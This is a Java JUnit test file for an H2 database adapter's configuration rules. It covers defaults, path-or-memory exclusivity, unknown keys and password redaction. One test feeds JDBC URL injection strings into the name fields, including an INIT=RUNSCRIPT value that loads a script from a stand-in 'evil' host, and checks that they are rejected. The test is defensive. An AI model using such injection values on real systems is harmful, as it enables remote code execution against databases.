package io.gatehouse.adapter.h2;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gatehouse.core.config.ConfigException;
import io.gatehouse.core.config.ConfigLoader;
import io.gatehouse.core.config.GatehouseConfig;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The H2 source's configuration rules. */
class H2ConfigTest {
  private static ConfigException refused(Map<String, Object> source) {
    Map<String, Object> s = new HashMap<>(source);
    s.putIfAbsent("id", "h");
    s.putIfAbsent("type", "h2");
    return assertThrows(ConfigException.class,
        () -> ConfigLoader.withDiscoveredAdapters().fromMap(Map.of("sources", List.of(s))));
  }

  private static String problems(ConfigException e) {
    return e.problems().toString();
  }

  @Test
  void memoryDatabaseWithDefaults() {
    GatehouseConfig c = ConfigLoader.withDiscoveredAdapters().fromMap(Map.of("sources",
        List.of(Map.of("id", "h", "type", "h2", "memory", "demo_db"))));
    assertEquals(List.of("PUBLIC"), c.sources().get(0).schemas());
    H2Settings s = (H2Settings) c.sources().get(0).settings();
    assertEquals("sa", s.user());
    assertEquals("jdbc:h2:mem:demo_db;IFEXISTS=TRUE", s.url());
  }

  @Test
  void exactlyOneOfPathAndMemory() {
    assertTrue(problems(refused(Map.of())).contains("exactly one of 'path'"));
    assertTrue(problems(refused(Map.of("memory", "a", "path", "/tmp/x"))).contains("exactly one"));
  }

  @Test
  void namesCannotCarryUrlOptions() {
    ConfigException e = refused(Map.of("memory", "x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"));
    assertTrue(problems(e).contains("sources[0].memory"), problems(e));
    ConfigException p = refused(Map.of("path", "/tmp/db;INIT=RUNSCRIPT FROM 'x'"));
    assertTrue(problems(p).contains("sources[0].path: must be a plain file path"), problems(p));
  }

  @Test
  void aMissingDatabaseFileIsReported() {
    assertTrue(problems(refused(Map.of("path", "/nonexistent/db"))).contains("no H2 database at"));
  }

  @Test
  void aRawUrlIsAnUnknownKey() {
    ConfigException e = refused(Map.of("memory", "a", "url", "jdbc:h2:mem:a"));
    assertTrue(problems(e).contains("sources[0].url: unknown key"), problems(e));
  }

  @Test
  void passwordsNeverPrint() {
    GatehouseConfig c = ConfigLoader.withDiscoveredAdapters().fromMap(Map.of("sources",
        List.of(Map.of("id", "h", "type", "h2", "memory", "a", "password", "s3cret-h2"))));
    assertTrue(!c.toString().contains("s3cret-h2"), c.toString());
  }
}
